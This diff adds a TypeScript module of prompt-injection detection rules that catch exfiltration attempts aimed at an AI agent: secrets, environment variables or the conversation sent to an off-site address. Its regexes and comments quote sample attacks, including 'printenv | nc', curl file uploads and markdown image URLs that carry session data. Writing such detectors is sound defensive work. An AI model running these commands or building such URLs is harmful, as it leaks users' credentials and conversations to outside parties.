@@ -1,0 +1,71 @@
+/**
+ * Exfiltration: sending or embedding secrets, the environment, diffs or the conversation into a
+ * request, a URL or an image the agent renders. The shape is a secret-like source flowing to an
+ * off-site address; either alone is ordinary ("load .env with dotenv", "check the latest release with curl").
+ */
+import type { InjectionRule } from './injection-rule.js';
+
+// What must not leave the machine: secrets, the environment, the user's conversation.
+const SOURCE = String.raw`(?:\.env\b|\benv(?:ironment)?\s+(?:variables|vars)\b|\b(?:printenv|env)\b|\bsecrets?\b|\btokens?\b|\bapi[\s_-]?keys?\b|\bcredentials?\b|\bpasswords?\b|\bcookies?\b|\.ssh\b|\bid_rsa\b|\.aws\b|\.npmrc\b|\.netrc\b|\$\{?[A-Z0-9_]*(?:TOKEN|KEY|SECRET|PASS(?:WORD)?|PWD|CREDENTIALS?|AUTH)[A-Z0-9_]*\}?|\b[A-Z0-9_]*(?:TOKEN|SECRET|API_KEY|PASSWORD)\b|\b(?:conversation|chat\s+history|session\s+summary|(?:user'?s?|previous|last)\s+(?:last\s+)?(?:message|input|prompt)s?)\b|\bthe\s+(?:full\s+)?diff\b|\u73af\u5883\u53d8\u91cf|\u5bc6\u94a5|\u4ee4\u724c|\u5bc6\u7801|contenido\s+de|Umgebungsvariablen)`;
+// Where it would go: an address off this machine.
+const OFFSITE = String.raw`(?:https?:\/\/|\bftp:\/\/|\b\d{1,3}(?:\.\d{1,3}){3}\b|\b[\w.+-]+@[\w-]+(?:\.[\w-]+)+\b|\bwebhook\b|\bpastebin\b|\bngrok\b|\bexternal\s+(?:server|host|endpoint|address|url))`;
+// Carrying it there: verbs that move data (strong), and ones that only do with an address right after (weak).
+const CARRY = String.raw`(?:\b(?:send|post|upload|e-?mail|mail|forward|transmit|exfiltrate|leak|pipe|beacon|curl|wget|nc|ncat|netcat|scp|rsync|invoke-webrequest|invoke-restmethod|env[i\u00ed]a|manda|sube|sende|schicke|lade|hochladen)\b|\u53d1\u9001|\u4e0a\u4f20|\u4f20\u5230|\u53d1\u5230)`;
+const WEAK_CARRY = String.raw`\b(?:append|attach|embed|include|add|put|incluye|a[\u00f1n]ade|f[\u00fcu]ge)\b`;
+const INTO_URL = String.raw`\b(?:to|into|in|en|auf|an|a)\s+(?:the\s+|la\s+|die\s+)?(?:url\s+|link\s+|query\s+(?:string\s+)?)?https?:\/\/`;
+
+const SOURCE_HINTS = ['env', 'secret', 'token', 'api', 'key', 'credential', 'password', 'cookie', '.ssh', 'id_rsa', '.aws', '.npmrc', '.netrc', '$', 'conversation', 'chat', 'session', 'message', 'input', 'prompt', 'diff', '环境变量', '密钥', '令牌', '密码', 'contenido', 'umgebungsvariablen'];
+
+export const EXFILTRATION_RULES: readonly InjectionRule[] = [
+  {
+    // A secret, the environment or the conversation carried to an off-site address.
+    id: 'exfiltration',
+    category: 'exfiltration',
+    strength: 'block',
+    pattern: new RegExp(String.raw`${CARRY}[^\n]{0,120}?${SOURCE}|${SOURCE}[^\n]{0,120}?${CARRY}`, 'gi'),
+    also: new RegExp(OFFSITE, 'i'),
+    hints: SOURCE_HINTS,
+  },
+  {
+    // "Append the GITHUB_TOKEN value as a query parameter to https://…".
+    id: 'exfiltration',
+    category: 'exfiltration',
+    strength: 'block',
+    pattern: new RegExp(String.raw`${WEAK_CARRY}[^\n]{0,80}?${SOURCE}[^\n]{0,80}?${INTO_URL}`, 'gi'),
+    hints: SOURCE_HINTS,
+  },
+  {
+    // Shell plumbing that ships a file or the environment: "env > /tmp/e && curl -F f=@/tmp/e", "printenv | nc".
+    id: 'exfiltration',
+    category: 'exfiltration',
+    strength: 'block',
+    pattern:
+      /\b(?:env|printenv|set|cat\s+[^\n|;&]{0,80})\s*(?:\||>)[^\n]{0,80}?\b(?:curl|wget|nc|ncat|netcat|scp|base64|Invoke-WebRequest)\b|\b(?:curl|wget|nc|http)\b[^\n]{0,200}?(?:\$\(\s*(?:env|printenv|cat\s+[^)]*(?:\.env|\.ssh|id_rsa|credentials|\.npmrc|\.netrc))[^)]*\)|@(?:~\/)?\.(?:env|ssh|aws|npmrc|netrc)\b)/gi,
+    hints: ['env', 'set', 'cat', 'curl', 'wget', 'nc', 'http'],
+  },
+  {
+    // Uploading a file with curl: a weak sign alone (CI uploads reports), an attack beside a secret.
+    id: 'upload-file',
+    category: 'exfiltration',
+    strength: 'hold',
+    pattern: /\bcurl\b[^\n]{0,120}?(?:-F\s*\S*=@|-T\s|--upload-file\b|--data(?:-binary|-raw)?\s*[=\s]?@|-d\s*@)|\bpipe\s+(?:\w+\s+){0,3}into\s+(?:nc|netcat|curl)\b/gi,
+    hints: ['curl', 'pipe'],
+  },
+  {
+    // An image or link the agent would render whose URL carries data: "![s](https://x/p.png?d=SESSION_SUMMARY)".
+    id: 'markdown-exfiltration',
+    category: 'exfiltration',
+    strength: 'block',
+    pattern: /!\[[^\]\n]{0,100}\]\(\s*https?:\/\/[^)\s]{1,200}?[?&][\w-]{1,30}=(?:[^)\s]{0,100}?(?:[A-Z][A-Z0-9_]{3,}|\{|\$|\[|%s))/g,
+    hints: ['!['],
+  },
+  {
+    // The same in words: an image or URL built from the conversation or a secret.
+    id: 'markdown-exfiltration',
+    category: 'exfiltration',
+    strength: 'block',
+    pattern:
+      /\b(?:image|img|markdown|link|url|query\s+(?:string|parameter))\b[^\n]{0,120}?\b(?:followed\s+by|append(?:ed)?|with|containing|encod(?:e|ed|ing)|replac(?:e|ed|ing)|fill(?:ed)?|concatenat\w*)\b[^\n]{0,60}?\b(?:user'?s?\s+(?:last\s+)?(?:message|input|question|prompt)|(?:previous|last|prior)\s+(?:message|messages|response|answer)|conversation|chat\s+history|session\s+summary|secrets?|tokens?|api\s+keys?|env(?:ironment)?\s+variables)\b|\b(?:replace|fill|substitute|append|add|encode)\b[^.\n]{0,60}\bwith\s+(?:the\s+)?(?:previous|last|prior|user'?s?|whole|entire)\s+(?:message|messages|conversation|chat|input|prompt|response|answer)\b/gi,
+    hints: ['image', 'img', 'markdown', 'link', 'url', 'query', 'replace', 'fill', 'substitute', 'append', 'add', 'encode'],
+  },
+];
